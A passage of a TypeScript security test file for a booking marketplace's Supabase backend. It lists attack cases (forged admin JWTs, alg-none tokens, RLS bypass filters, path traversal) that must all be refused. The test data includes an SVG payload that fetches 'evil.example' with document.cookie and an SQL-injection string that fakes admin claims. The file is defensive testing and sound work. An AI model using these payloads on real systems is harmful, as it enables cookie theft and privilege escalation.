import { randomUUID } from 'node:crypto';
import { signJwt } from '@partyeasy/devstack/jwt';
import { type ActorName, ids } from '../support/actors.js';
import { PNG_BYTES } from '../support/api-client.js';
import type { AttackContext, Attempt, HttpResult } from './context.js';

/**
 * The attack table: each case is one role trying one thing it must not be able to do through the public
 * API (REST, RPC, storage, auth, the edge functions) with a real access token. A case passes when the
 * attempt is refused (an error, or nothing affected / visible), the answer is not a server error, and every
 * listed table is byte-for-byte the same afterwards (see attacks.test.ts).
 *
 * The policy matrix (tests/support/policy-cases.ts) already covers plain read/insert/update/delete of other
 * people's rows per table and role; these cases go after the ways around it.
 */
export type Category =
  | 'rows of others'
  | 'admin escalation'
  | 'self-approval'
  | 'booking for others'
  | 'newsletter list'
  | 'storage'
  | 'checkout function'
  | 'payment webhook'
  | 'hostile input'
  // Hardening round 2 (cases-round2.ts)
  | 'review bypass'
  | 'audit columns'
  | 'booking data'
  | 'holds'
  | 'numbers'
  | 'personal data'
  // Hardening round 2 (cases-round2-stack.ts)
  | 'storage listing and bytes'
  | 'status mail'
  | 'cancel'
  | 'newsletter'
  | 'read-only GET'
  | 'auth sessions'
  | 'error answers'
  // Reviews (cases-reviews.ts)
  | 'reviews'
  // Hardening round 3, classes 1-2 (cases-round3-lifecycle.ts)
  | 'self-dealing'
  | 'status machine'
  // Hardening round 3, classes 3-5 (cases-round3-content.ts)
  | 'user text'
  | 'upload budget'
  | 'moderator identity'
  // Messaging (cases-messaging.ts)
  | 'messaging'
  // Receipts and terms (cases-receipts-terms.ts)
  | 'receipts and terms'
  // Custom quotes (cases-quotes.ts)
  | 'quotes'
  // Disputes (cases-disputes.ts)
  | 'disputes'
  // Privacy rights (cases-privacy.ts)
  | 'privacy'
  // Events (cases-events.ts)
  | 'events'
  // Changing a paid booking (cases-booking-changes.ts)
  | 'booking changes';

export interface AttackCase {
  category: Category;
  /** The role (or a forged identity) making the attempt. */
  /** 'payment provider': genuine, signed events arriving late, repeated or out of order. */
  actor: ActorName | 'forged token' | 'provider impostor' | 'payment provider';
  name: string;
  /** Tables (or parenthesised queries) that must be unchanged afterwards. */
  tables: string[];
  /**
   * A refusal that PostgREST answers with 500 on purpose: RPC errors raised with a P0xxx or 55xxx SQLSTATE
   * map to 500 there (and in the devstack, which copies the mapping). Named here so it stays visible.
   */
  serverStatus?: { status: 500; why: string };
  /** Prepares a target row as the superuser before the tables are snapshotted; its result goes to run. */
  setup?: (ctx: AttackContext) => Promise<string>;
  run: (ctx: AttackContext, target: string) => Promise<Attempt>;
}

// Outcome helpers -----------------------------------------------------------------------------------

type JsResult = { error: unknown; status: number; data?: unknown; count?: number | null };

/** A supabase-js call that must fail. */
export const failed = (r: JsResult): Attempt => ({
  status: r.status,
  refused: r.error !== null,
  detail: r.error,
});
/** A read that must fail or return nothing. */
export const nothingRead = (r: JsResult): Attempt => ({
  status: r.status,
  refused: r.error !== null || (Array.isArray(r.data) && r.data.length === 0) || r.data === null,
  detail: r.error ?? r.data,
});
/** A write with count: 'exact' that must fail or affect no row. */
export const noRowAffected = (r: JsResult): Attempt => ({
  status: r.status,
  refused: r.error !== null || r.count === 0,
  detail: r.error ?? { count: r.count, data: r.data },
});
/** A raw HTTP request that must be answered with a 4xx. */
export const clientError = (r: HttpResult, code?: string): Attempt => ({
  status: r.status,
  refused:
    r.status >= 400 &&
    r.status < 500 &&
    (code === undefined || (r.body as { error?: string } | null)?.error === code),
  detail: r.body,
});
/** Storage calls report { error } only. */
const storageFailed = (r: { error: unknown }): Attempt => ({
  status: (r.error as { statusCode?: string; status?: number } | null)?.status ?? 400,
  refused: r.error !== null,
  detail: r.error,
});
export const all = (attempts: Attempt[]): Attempt => ({
  status: Math.max(...attempts.map((a) => a.status)),
  refused: attempts.every((a) => a.refused),
  detail: attempts.map((a) => a.detail),
});

export const T = {
  bookings: 'public.bookings',
  vendors: 'public.vendors',
  packages: 'public."Packages"',
  addons: 'public.addons',
  availability: 'public.availability',
  users: 'public.users',
  emails: 'public."Email_List"',
  events: 'public.payment_events',
  ai: 'public.vendor_ai_data',
  templates: 'public.time_slot_templates',
  objects: 'storage.objects',
  buckets: 'storage.buckets',
  /** Server-side claims only: sign-ins and the user's own user_metadata may change, roles may not. */
  appMetadata: '(select id, raw_app_meta_data, role from auth.users)',
};

export const day = (offset: number) => new Date(Date.now() + offset * 86_400_000).toISOString().slice(0, 10);
export const booking = (userId: string, email: string, extra: Record<string, unknown> = {}) => ({
  vendor_id: ids.ownVendor,
  user_id: userId,
  customer_email: email,
  total_amount: 450,
  booking_date: day(30),
  booking_time: '10:00',
  duration_hours: 3,
  ...extra,
});
const b64url = (value: unknown) => Buffer.from(JSON.stringify(value)).toString('base64url');
const adminClaims = (sub: string) => ({
  role: 'authenticated' as const,
  sub,
  aud: 'authenticated',
  email: 'host@partyeasy.test',
  app_metadata: { provider: 'email', role: 'admin' },
});

/** What an admin token can read that nobody else can: every booking and the review queue. */
async function adminPowers(
  ctx: AttackContext,
  client: ReturnType<AttackContext['client']>,
): Promise<Attempt> {
  const approve = await client.rpc('admin_set_vendor_status', {
    p_vendor_id: ids.pendingVendor,
    p_status: 'approved',
  });
  const everyBooking = await client.from('bookings').select('id, user_id');
  const foreign = (everyBooking.data ?? []).filter((b) => b.user_id !== ids.host);
  const queue = await client.from('vendors').select('id').eq('id', ids.pendingVendor);
  void ctx;
  return all([
    failed(approve),
    { status: everyBooking.status, refused: foreign.length === 0, detail: foreign.length },
    nothingRead(queue),
  ]);
}

/**
 * Since round 2 a host's booking takes its total (0 until the checkout prices it) and customer name from the
 * server: a client value is not refused but never stored. The row is removed again; refused = not stored.
 */
async function storedColumn(
  ctx: AttackContext,
  values: Record<string, unknown>,
  column: string,
  bad: unknown,
) {
  const r = await ctx
    .client('host')
    .from('bookings')
    .insert(booking(ids.host, 'host@partyeasy.test', values))
    .select('*')
    .single();
  if (r.error || !r.data) return failed(r);
  const row = r.data as Record<string, unknown>;
  await ctx.db.query('delete from public.bookings where id = $1', [row.id]);
  const stored = row[column];
  return { status: r.status, refused: String(stored) !== String(bad), detail: { stored } };
}
const storedTotal = (ctx: AttackContext, total: number) =>
  storedColumn(ctx, { total_amount: total }, 'total_amount', total);
const storedName = (ctx: AttackContext, name: string) =>
  storedColumn(ctx, { customer_name: name }, 'customer_name', name);

/** A listing of the user in the given status (a rejected one carries a reason). */
async function newVendor(ctx: AttackContext, userId: string, status: string): Promise<string> {
  const { rows } = await ctx.db.query<{ id: string }>(
    `insert into public.vendors (user_id, name, status, rejection_reason)
     values ($1, 'Fixture listing', $2::text, case when $2::text = 'rejected' then 'Blurry photos' end) returning id`,
    [userId, status],
  );
  return rows[0]?.id as string;
}

// The cases ----------------------------------------------------------------------------------------

const rowsOfOthers: AttackCase[] = [
  {
    category: 'rows of others',
    actor: 'anon',
    name: 'embedding bookings into a public vendor read (select=*,bookings(*)) shows none',
    tables: [],
    run: async (ctx) => {
      const r = await ctx.client('anon').from('vendors').select('id, bookings(*)').eq('id', ids.ownVendor);
      const leaked = (r.data ?? []).flatMap((v) => (v as { bookings?: unknown[] }).bookings ?? []);
      return {
        status: r.status,
        refused: r.error !== null || leaked.length === 0,
        detail: r.error ?? leaked,
      };
    },
  },
  {
    category: 'rows of others',
    actor: 'otherVendor',
    name: "embedding another listing's bookings through vendors shows none",
    tables: [],
    run: async (ctx) => {
      const r = await ctx
        .client('otherVendor')
        .from('vendors')
        .select('id, user_id, bookings(id, customer_email)');
      const leaked = (r.data ?? [])
        .filter((v) => v.user_id !== ids.otherVendorUser)
        .flatMap((v) => (v as { bookings?: unknown[] }).bookings ?? []);
      return {
        status: r.status,
        refused: r.error !== null || leaked.length === 0,
        detail: r.error ?? leaked,
      };
    },
  },
  {
    category: 'rows of others',
    actor: 'otherHost',
    name: 'an or= filter that matches every booking still returns only the own ones',
    tables: [],
    run: async (ctx) => {
      const r = await ctx
        .client('otherHost')
        .from('bookings')
        .select('id, user_id')
        .or(`user_id.eq.${ids.host},id.not.is.null`);
      const foreign = (r.data ?? []).filter((b) => b.user_id !== ids.otherHost);
      return { status: r.status, refused: r.error !== null || foreign.length === 0, detail: foreign };
    },
  },
  {
    category: 'rows of others',
    actor: 'host',
    name: 'count=exact on users does not reveal how many accounts exist',
    tables: [],
    run: async (ctx) => {
      const r = await ctx.client('host').from('users').select('*', { count: 'exact', head: true });
      return { status: r.status, refused: r.error !== null || r.count === 1, detail: r.count };
    },
  },
  {
    category: 'rows of others',
    actor: 'otherVendor',
    name: "upsert (merge-duplicates) over DJ Nova's package to move it into the own listing",
    tables: [T.packages],
    run: async (ctx) =>
      failed(
        await ctx.client('otherVendor').from('Packages').upsert({
          id: ctx.fx.ownerPackage,
          vendor_id: ids.otherVendor,
          name: 'Stolen',
          price: 1,
          charging_type: 'per_event',
          duration_hours: 1,
        }),
      ),
  },
  {
    category: 'rows of others',
    actor: 'otherVendor',
    name: "PATCH vendor_id of DJ Nova's package to the own listing",
    tables: [T.packages],
    run: async (ctx) =>
      noRowAffected(
        await ctx
          .client('otherVendor')
          .from('Packages')
          .update({ vendor_id: ids.otherVendor }, { count: 'exact' })
          .eq('id', ctx.fx.ownerPackage),
      ),
  },
  {
    category: 'rows of others',
    actor: 'ownerVendor',
    name: "pushing the own package into another vendor's listing (vendor_id → other)",
    tables: [T.packages],
    run: async (ctx) =>
      noRowAffected(
        await ctx
          .client('ownerVendor')
          .from('Packages')
          .update({ vendor_id: ids.otherVendor, price: 0 }, { count: 'exact' })
          .eq('id', ctx.fx.ownerPackage),
      ),
  },
  {
    category: 'rows of others',
    actor: 'ownerVendor',
    name: 'a bulk insert mixing an own availability row with one for another vendor is refused whole',
    tables: [T.availability],
    run: async (ctx) =>
      failed(
        await ctx
          .client('ownerVendor')
          .from('availability')
          .insert([
            { vendor_id: ids.ownVendor, date: day(200), start_time: '09:00', end_time: '10:00' },
            { vendor_id: ids.otherVendor, date: day(200), start_time: '09:00', end_time: '10:00' },
          ]),
      ),
  },
  {
    category: 'rows of others',
    actor: 'otherVendor',
    name: "closing DJ Nova's availability with a filter on the date only",
    tables: [T.availability],
    run: async (ctx) =>
      noRowAffected(
        await ctx
          .client('otherVendor')
          .from('availability')
          .update({ is_available: false }, { count: 'exact' })
          .eq('vendor_id', ids.ownVendor),
      ),
  },
  {
    category: 'rows of others',
    actor: 'otherHost',
    name: 'DELETE bookings with a filter matching everything',
    tables: [T.bookings],
    run: async (ctx) =>
      noRowAffected(
        await ctx.client('otherHost').from('bookings').delete({ count: 'exact' }).not('id', 'is', null),
      ),
  },
  {
    category: 'rows of others',
    actor: 'host',
    name: "renaming the own profile's id to the admin's (id is not writable)",
    tables: [T.users],
    run: async (ctx) =>
      failed(await ctx.client('host').from('users').update({ id: ids.admin }).eq('id', ids.host)),
  },
  {
    category: 'rows of others',
    actor: 'host',
    name: "changing the profile's e-mail directly, out of step with the login",
    tables: [T.users],
    run: async (ctx) =>
      failed(
        await ctx.client('host').from('users').update({ email: 'admin@partyeasy.test' }).eq('id', ids.host),
      ),
  },
  {
    category: 'rows of others',
    actor: 'otherVendor',
    name: "upserting DJ Nova's custom package data (vendor_id is unique)",
    tables: [T.ai],
    run: async (ctx) =>
      failed(
        await ctx
          .client('otherVendor')
          .from('vendor_ai_data')
          .upsert(
            { vendor_id: ids.ownVendor, user_id: ids.otherVendorUser, training_data: { stolen: true } },
            { onConflict: 'vendor_id' },
          ),
      ),
  },
  {
    category: 'rows of others',
    actor: 'host',
    name: 'creating a time slot template in another user’s name',
    tables: [T.templates],
    run: async (ctx) =>
      failed(
        await ctx.client('host').from('time_slot_templates').insert({
          user_id: ids.ownerVendorUser,
          start_time: '08:00',
          end_time: '09:00',
          display_text: 'planted',
        }),
      ),
  },
  {
    category: 'rows of others',
    actor: 'host',
    name: 'calling internal functions (upsert_user_profile, lock_own_vendor on another listing)',
    tables: [T.users, T.vendors],
    run: async (ctx) => {
      const c = ctx.client('host');
      const profile = await c.rpc('upsert_user_profile', { u: { id: ids.admin, email: 'x@example.com' } });
      const lock = await c.rpc('lock_own_vendor', { p_vendor_id: ids.ownVendor });
      return all([failed(profile), failed(lock)]);
    },
  },
  {
    category: 'rows of others',
    actor: 'host',
    name: 'a listing under review stays hidden through the RPCs (calendar, windows, blocking times)',
    tables: [],
    run: async (ctx) => {
      const c = ctx.client('host');
      const [dates, windows, blocking] = await Promise.all([
        c.rpc('vendor_available_dates', { p_vendor_id: ids.pendingVendor, p_from: day(0) }),
        c.rpc('vendor_day_windows', { p_vendor_id: ids.pendingVendor, p_date: day(5) }),
        c.rpc('vendor_blocking_bookings', { p_vendor_id: ids.pendingVendor, p_date: day(5) }),
      ]);
      const pendingDates = await ctx.db.query<{ n: number }>(
        `select count(*)::int as n from public.availability where vendor_id = $1`,
        [ids.pendingVendor],
      );
      // The fixture must have something to hide for the check to mean anything.
      if ((pendingDates.rows[0]?.n ?? 0) === 0) return { status: 200, refused: false, detail: 'no fixture' };
      return all([nothingRead(dates), nothingRead(windows), nothingRead(blocking)]);
    },
  },
];

const adminEscalation: AttackCase[] = [
  {
    category: 'admin escalation',
    actor: 'host',
    name: 'user_metadata.role = admin (updateUser, then a fresh token) gives no admin power',
    tables: [T.appMetadata, T.vendors, T.bookings],
    run: async (ctx) => {
      const { signedInClient } = await import('../support/api-client.js');
      const { actors } = await import('../support/actors.js');
      const c = await signedInClient(ctx.stack.url, ctx.stack.anonKey, actors.host);
      await c.auth.updateUser({ data: { role: 'admin', app_metadata: { role: 'admin' } } });
      await c.auth.refreshSession();
      const attempt = await adminPowers(ctx, c as never);
      await c.auth.updateUser({ data: { role: null, app_metadata: null } });
      return attempt;
    },
  },
  {
    category: 'admin escalation',
    actor: 'host',
    name: 'PUT /auth/v1/user with app_metadata.role = admin is ignored',
    tables: [T.appMetadata],
    run: async (ctx) => {
      const r = await ctx.http('host', 'PUT', '/auth/v1/user', {
        body: { app_metadata: { role: 'admin' }, role: 'service_role' },
      });
      const role = await ctx.db.query<{ role: string | null }>(
        `select raw_app_meta_data ->> 'role' as role from auth.users where id = $1`,
        [ids.host],
      );
      return { status: r.status, refused: role.rows[0]?.role !== 'admin', detail: r.body };
    },
  },
  {
    category: 'admin escalation',
    actor: 'anon',
    name: 'sign-up carrying app_metadata.role = admin and user_metadata.role = admin creates no admin',
    tables: [T.bookings, T.vendors],
    run: async (ctx) => {
      const email = `climber-${randomUUID().slice(0, 8)}@example.com`;
      const r = await ctx.http('anon', 'POST', '/auth/v1/signup', {
        body: {
          email,
          password: 'Climb!2026-secret',
          data: { role: 'admin', user_type: 'host' },
          app_metadata: { role: 'admin' },
          role: 'service_role',
        },
      });
      const u = await ctx.db.query<{ role: string | null; dbrole: string }>(
        `select raw_app_meta_data ->> 'role' as role, role as dbrole from auth.users where email = $1`,
        [email],
      );
      const row = u.rows[0];
      return {
        status: r.status >= 500 ? r.status : 200,
        refused: !!row && row.role !== 'admin' && row.dbrole === 'authenticated',
        detail: { body: r.body, row },
      };
    },
  },
  {
    category: 'admin escalation',
    actor: 'forged token',
    name: 'an admin token signed with a guessed secret is rejected by REST and RPC',
    tables: [T.vendors, T.bookings],
    run: async (ctx) => {
      const forged = await signJwt(
        adminClaims(ids.host),
        'super-secret-jwt-token-guessed-by-an-attacker',
        3600,
      );
      const c = ctx.clientWithToken(forged);
      const read = await c.from('bookings').select('id');
      const approve = await c.rpc('admin_set_vendor_status', {
        p_vendor_id: ids.pendingVendor,
        p_status: 'approved',
      });
      return all([failed(read), failed(approve)]);
    },
  },
  {
    category: 'admin escalation',
    actor: 'forged token',
    name: 'an unsigned token (alg: none) claiming admin is rejected',
    tables: [T.vendors, T.bookings],
    run: async (ctx) => {
      const now = Math.floor(Date.now() / 1000);
      const token = `${b64url({ alg: 'none', typ: 'JWT' })}.${b64url({ ...adminClaims(ids.host), iat: now, exp: now + 3600 })}.`;
      const c = ctx.clientWithToken(token);
      return all([
        failed(await c.from('bookings').select('id')),
        failed(
          await c.rpc('admin_set_vendor_status', { p_vendor_id: ids.pendingVendor, p_status: 'approved' }),
        ),
      ]);
    },
  },
  {
    category: 'admin escalation',
    actor: 'forged token',
    name: 'a service_role token signed with the public anon key as the secret is rejected',
    tables: [T.events, T.emails],
    run: async (ctx) => {
      const forged = await signJwt({ role: 'service_role' }, ctx.stack.anonKey, 3600);
      const c = ctx.clientWithToken(forged);
      return all([
        failed(await c.from('Email_List').select('email')),
        failed(
          await c.from('payment_events').insert({ id: 'evt_forged_sr', type: 'checkout.session.completed' }),
        ),
      ]);
    },
  },
  {
    category: 'admin escalation',
    actor: 'host',
    name: "a host's token on the auth admin API (list users, grant itself admin)",
    tables: [T.appMetadata],
    run: async (ctx) => {
      const list = await ctx.http('host', 'GET', '/auth/v1/admin/users');
      const grant = await ctx.http('host', 'PUT', `/auth/v1/admin/users/${ids.host}`, {
        body: { app_metadata: { role: 'admin' } },
      });
      return all([clientError(list), clientError(grant)]);
    },
  },
  {
    category: 'admin escalation',
    actor: 'anon',
    name: 'the anon key as a bearer on the auth admin API',
    tables: [T.appMetadata],
    run: async (ctx) =>
      clientError(
        await ctx.http('anon', 'POST', '/auth/v1/admin/users', {
          body: { email: 'root@example.com', password: 'Root!2026-secret', app_metadata: { role: 'admin' } },
        }),
      ),
  },
  {
    category: 'admin escalation',
    actor: 'ownerVendor',
    name: 'admin_set_vendor_status with a JWT-looking role argument still checks the token',
    tables: [T.vendors],
    run: async (ctx) =>
      failed(
        await ctx.client('ownerVendor').rpc('admin_set_vendor_status', {
          p_vendor_id: ids.pendingVendor,
          p_status: 'approved',
          p_reason:
            'admin\'); select set_config(\'request.jwt.claims\', \'{"app_metadata":{"role":"admin"}}\', false); --',
        }),
      ),
  },
];

const selfApproval: AttackCase[] = [
  {
    category: 'self-approval',
    actor: 'ownerVendor',
    name: 'upsert of the own listing with status approved (merge-duplicates)',
    tables: [T.vendors],
    setup: (ctx) => newVendor(ctx, ids.ownerVendorUser, 'pending_approval'),
    run: async (ctx, id) =>
      failed(
        await ctx
          .client('ownerVendor')
          .from('vendors')
          .upsert({ id, user_id: ids.ownerVendorUser, name: 'Under review', status: 'approved' }),
      ),
  },
  {
    category: 'self-approval',
    actor: 'ownerVendor',
    name: 'a new listing created as rejected-then-approved through the audit columns',
    tables: [T.vendors],
    run: async (ctx) =>
      failed(
        await ctx.client('ownerVendor').from('vendors').insert({
          user_id: ids.ownerVendorUser,
          name: 'Second act',
          status: 'edit_listing',
          status_changed_by: ids.admin,
          status_changed_at: new Date().toISOString(),
        }),
      ),
  },
  {
    category: 'self-approval',
    actor: 'ownerVendor',
    name: 'recording the admin as the reviewer of the own listing (status_changed_by)',
    tables: [T.vendors],
    run: async (ctx) =>
      failed(
        await ctx
          .client('ownerVendor')
          .from('vendors')
          .update({ status_changed_by: ids.admin })
          .eq('id', ids.ownVendor),
      ),
  },
  {
    category: 'self-approval',
    actor: 'otherVendor',
    name: 'approving a listing under review by PATCHing status with an or= filter',
    tables: [T.vendors],
    setup: (ctx) => newVendor(ctx, ids.otherVendorUser, 'pending_approval'),
    run: async (ctx, id) =>
      failed(
        await ctx
          .client('otherVendor')
          .from('vendors')
          .update({ status: 'approved' })
          .or(`id.eq.${id},id.eq.${ids.pendingVendor}`),
      ),
  },
  {
    category: 'self-approval',
    actor: 'ownerVendor',
    name: 'clearing the rejection of a rejected listing (rejection_reason → null, status → approved)',
    tables: [T.vendors],
    setup: (ctx) => newVendor(ctx, ids.ownerVendorUser, 'rejected'),
    run: async (ctx, id) => {
      const c = ctx.client('ownerVendor');
      return all([
        failed(await c.from('vendors').update({ rejection_reason: null }).eq('id', id)),
        failed(await c.from('vendors').update({ status: 'approved' }).eq('id', id)),
      ]);
    },
  },
];

const bookingForOthers: AttackCase[] = [
  {
    category: 'booking for others',
    actor: 'host',
    name: "upserting over another host's booking with the own user id",
    tables: [T.bookings],
    run: async (ctx) =>
      failed(
        await ctx
          .client('host')
          .from('bookings')
          .upsert({ id: ctx.fx.otherHostBooking, ...booking(ids.host, 'host@partyeasy.test') }),
      ),
  },
  {
    category: 'booking for others',
    actor: 'host',
    name: "a bulk insert of an own booking and one in another host's name is refused whole",
    tables: [T.bookings],
    run: async (ctx) =>
      failed(
        await ctx
          .client('host')
          .from('bookings')
          .insert([booking(ids.host, 'host@partyeasy.test'), booking(ids.otherHost, 'host2@partyeasy.test')]),
      ),
  },
  {
    category: 'booking for others',
    actor: 'host',
    name: "claiming another booking's payment by inserting its checkout_session_id",
    tables: [T.bookings],
    run: async (ctx) =>
      failed(
        await ctx
          .client('host')
          .from('bookings')
          .insert(
            booking(ids.host, 'host@partyeasy.test', { checkout_session_id: ctx.fx.heldBooking.sessionId }),
          ),
      ),
  },
  {
    category: 'booking for others',
    actor: 'host',
    name: 'inserting a booking with paid_at and processing_fee already set',
    tables: [T.bookings],
    run: async (ctx) =>
      failed(
        await ctx
          .client('host')
          .from('bookings')
          .insert(
            booking(ids.host, 'host@partyeasy.test', {
              paid_at: new Date().toISOString(),
              processing_fee: 0,
            }),
          ),
      ),
  },
  {
    category: 'booking for others',
    actor: 'host',
    name: 'a negative total or zero-length booking',
    tables: [T.bookings],
    run: async (ctx) => {
      const c = ctx.client('host');
      return all([
        await storedTotal(ctx, -450),
        failed(await c.from('bookings').insert(booking(ids.host, 'h@example.com', { duration_hours: 0 }))),
        failed(await c.from('bookings').insert(booking(ids.host, 'h@example.com', { guest_count: -5 }))),
      ]);
    },
  },
  {
    category: 'booking for others',
    actor: 'host',
    name: "cancelling another host's booking through cancel-checkout",
    tables: [T.bookings],
    run: async (ctx) =>
      clientError(
        await ctx.fn('host', 'cancel-checkout', { bookingId: ctx.fx.otherHostBooking }),
        'booking_not_found',
      ),
  },
  {
    category: 'booking for others',
    actor: 'host',
    name: 'cancelling the own paid booking through cancel-checkout',
    tables: [T.bookings],
    run: async (ctx) =>
      clientError(
        await ctx.fn('host', 'cancel-checkout', { bookingId: ctx.fx.hostPaidBooking }),
        'already_paid',
      ),
  },
  {
    category: 'booking for others',
    actor: 'ownerVendor',
    name: "the vendor marks a customer's booking completed or cancelled",
    tables: [T.bookings],
    run: async (ctx) =>
      noRowAffected(
        await ctx
          .client('ownerVendor')
          .from('bookings')
          .update({ payment_status: 'cancelled' }, { count: 'exact' })
          .eq('id', ctx.fx.hostPaidBooking),
      ),
  },
  {
    category: 'booking for others',
    actor: 'otherHost',
    name: "holding another host's booking through reserve_booking",
    tables: [T.bookings],
    serverStatus: { status: 500, why: "reserve_booking answers 'not found' with SQLSTATE P0002" },
    run: async (ctx) =>
      failed(await ctx.client('otherHost').rpc('reserve_booking', { p_booking_id: ctx.fx.hostBooking })),
  },
];

const newsletter: AttackCase[] = [
  {
    category: 'newsletter list',
    actor: 'anon',
    name: 'count=exact on Email_List reveals nothing',
    tables: [],
    run: async (ctx) => {
      const r = await ctx.client('anon').from('Email_List').select('*', { count: 'exact', head: true });
      return { status: r.status, refused: r.error !== null || !r.count, detail: r.count };
    },
  },
  {
    category: 'newsletter list',
    actor: 'host',
    name: 'a pattern filter (email=like.*) reads no addresses',
    tables: [],
    run: async (ctx) =>
      nothingRead(await ctx.client('host').from('Email_List').select('email').like('email', '%')),
  },
  {
    category: 'newsletter list',
    actor: 'anon',
    name: 'subscribing an existing address with return=representation reads nothing back',
    tables: [T.emails],
    run: async (ctx) =>
      failed(await ctx.client('anon').from('Email_List').insert({ email: 'fan@example.com' }).select()),
  },
  {
    category: 'newsletter list',
    actor: 'anon',
    name: 'upsert on email (merge-duplicates) to overwrite or probe a subscriber',
    tables: [T.emails],
    run: async (ctx) =>
      failed(
        await ctx
          .client('anon')
          .from('Email_List')
          .upsert({ email: 'fan@example.com', created_at: '2000-01-01T00:00:00Z' }, { onConflict: 'email' }),
      ),
  },
  {
    category: 'newsletter list',
    actor: 'admin',
    name: 'the admin UI token cannot export, edit or empty the list',
    tables: [T.emails],
    run: async (ctx) => {
      const c = ctx.client('admin');
      return all([
        nothingRead(await c.from('Email_List').select('email')),
        noRowAffected(
          await c
            .from('Email_List')
            .update({ email: 'x@example.com' }, { count: 'exact' })
            .not('id', 'is', null),
        ),
        noRowAffected(await c.from('Email_List').delete({ count: 'exact' }).not('id', 'is', null)),
      ]);
    },
  },
  {
    category: 'newsletter list',
    actor: 'anon',
    name: 'writing the id or created_at of a subscription',
    tables: [T.emails],
    run: async (ctx) =>
      failed(
        await ctx
          .client('anon')
          .from('Email_List')
          .insert({ id: 1, email: `dup-${randomUUID()}@example.com` }),
      ),
  },
];

const SVG_WITH_SCRIPT = Buffer.from(
  '<svg xmlns="http://www.w3.org/2000/svg" onload="fetch(`//evil.example/`+document.cookie)"><script>alert(1)</script></svg>',
);
const HTML_PAGE = Buffer.from('<!doctype html><script>alert(document.cookie)</script>');

const storage: AttackCase[] = [
  {
    category: 'storage',
    actor: 'host',
    name: "path traversal into the vendor's folder (own/../vendor/x.png)",
    tables: [T.objects],
    run: async (ctx) =>
      storageFailed(
        await ctx
          .client('host')
          .storage.from('vendor-photos')
          .upload(`${ids.host}/../${ids.ownerVendorUser}/planted.png`, PNG_BYTES, {
            contentType: 'image/png',
          }),
      ),
  },
  {
    category: 'storage',
    actor: 'host',
    name: "overwriting the vendor's photo with upsert: true",
    tables: [T.objects],
    run: async (ctx) => {
      const url = ctx.client('anon').storage.from('vendor-photos').getPublicUrl(ctx.fx.ownerObject)
        .data.publicUrl;
      const before = Buffer.from(await (await fetch(url)).arrayBuffer());
      const r = await ctx
        .client('host')
        .storage.from('vendor-photos')
        .upload(ctx.fx.ownerObject, PNG_BYTES, { contentType: 'image/png', upsert: true });
      const after = Buffer.from(await (await fetch(url)).arrayBuffer());
      const a = storageFailed(r);
      return { ...a, refused: a.refused && before.equals(after) && before.length > 0 };
    },
  },
  {
    category: 'storage',
    actor: 'otherVendor',
    name: "replacing the vendor's photo through PUT (update)",
    tables: [T.objects],
    run: async (ctx) =>
      storageFailed(
        await ctx
          .client('otherVendor')
          .storage.from('vendor-photos')
          .update(ctx.fx.ownerObject, PNG_BYTES, { contentType: 'image/png' }),
      ),
  },
  {
    category: 'storage',
    actor: 'host',
    name: "deleting the vendor's photo by a disguised path (leading slash, doubled slash)",
    tables: [T.objects],
    run: async (ctx) => {
      const bucket = ctx.client('host').storage.from('vendor-photos');
      const [folder, file] = ctx.fx.ownerObject.split('/');
      const a = await bucket.remove([
        `/${ctx.fx.ownerObject}`,
        `${folder}//${file}`,
        `${ids.host}/../${ctx.fx.ownerObject}`,
      ]);
      return { status: 200, refused: a.error !== null || (a.data ?? []).length === 0, detail: a };
    },
  },
  {
    category: 'storage',
    actor: 'anon',
    name: 'anon uploads anywhere (own folder of nobody, root of the bucket)',
    tables: [T.objects],
    run: async (ctx) => {
      const bucket = ctx.client('anon').storage.from('vendor-photos');
      return all([
        storageFailed(await bucket.upload('anon-root.png', PNG_BYTES, { contentType: 'image/png' })),
        storageFailed(await bucket.upload(`${randomUUID()}/x.png`, PNG_BYTES, { contentType: 'image/png' })),
      ]);
    },
  },
  {
    category: 'storage',
    actor: 'host',
    name: 'creating a bucket, or widening the photo bucket (size limit, any type)',
    tables: [T.buckets],
    run: async (ctx) => {
      const s = ctx.client('host').storage;
      return all([
        storageFailed(await s.createBucket('loot', { public: true })),
        storageFailed(
          await s.updateBucket('vendor-photos', {
            public: true,
            fileSizeLimit: 10_000_000_000,
            allowedMimeTypes: ['*/*'],
          }),
        ),
      ]);
    },
  },
  {
    category: 'storage',
    actor: 'admin',
    name: 'emptying or deleting the photo bucket',
    tables: [T.buckets, T.objects],
    run: async (ctx) => {
      const s = ctx.client('admin').storage;
      return all([
        storageFailed(await s.emptyBucket('vendor-photos')),
        storageFailed(await s.deleteBucket('vendor-photos')),
      ]);
    },
  },
  {
    category: 'storage',
    actor: 'ownerVendor',
    name: 'a non-image upload into the own folder (text/html)',
    tables: [T.objects],
    run: async (ctx) =>
      storageFailed(
        await ctx
          .client('ownerVendor')
          .storage.from('vendor-photos')
          .upload(`${ids.ownerVendorUser}/${Date.now()}-page.html`, HTML_PAGE, { contentType: 'text/html' }),
      ),
  },
  {
    category: 'storage',
    actor: 'ownerVendor',
    name: 'an SVG with a script, declared image/svg+xml (served from the public bucket it would run)',
    tables: [T.objects],
    run: async (ctx) =>
      storageFailed(
        await ctx
          .client('ownerVendor')
          .storage.from('vendor-photos')
          .upload(`${ids.ownerVendorUser}/${Date.now()}-logo.svg`, SVG_WITH_SCRIPT, {
            contentType: 'image/svg+xml',
          }),
      ),
  },
  {
    category: 'storage',
    actor: 'ownerVendor',
    name: 'an executable declared application/octet-stream under a .png name',
    tables: [T.objects],
    run: async (ctx) =>
      storageFailed(
        await ctx
          .client('ownerVendor')
          .storage.from('vendor-photos')
          .upload(`${ids.ownerVendorUser}/${Date.now()}-photo.png`, Buffer.from('MZ\x90\x00'), {
            contentType: 'application/octet-stream',
          }),
      ),
  },
  {
    category: 'storage',
    actor: 'ownerVendor',
    name: 'an image one byte over the 50 MB limit',
    tables: [T.objects],
    run: async (ctx) => {
      const big = Buffer.alloc(50 * 1024 * 1024 + 1);
      PNG_BYTES.copy(big);
      return storageFailed(
        await ctx
          .client('ownerVendor')
          .storage.from('vendor-photos')
          .upload(`${ids.ownerVendorUser}/${Date.now()}-huge.png`, big, { contentType: 'image/png' }),
      );
    },
  },
];

/** The spec's checkout body with tampered client prices. */
/** A create-booking request for DJ Nova's Party Starter (the command validates ids before the slot). */
const bookingRequest = (ctx: AttackContext, extra: Record<string, unknown> = {}) => ({
  vendorId: ids.ownVendor,
  packageId: ctx.fx.ownerPackage,
  addons: [],
  date: '2030-01-08',
  startTime: '10:00',
  guests: 20,
  hours: 3,
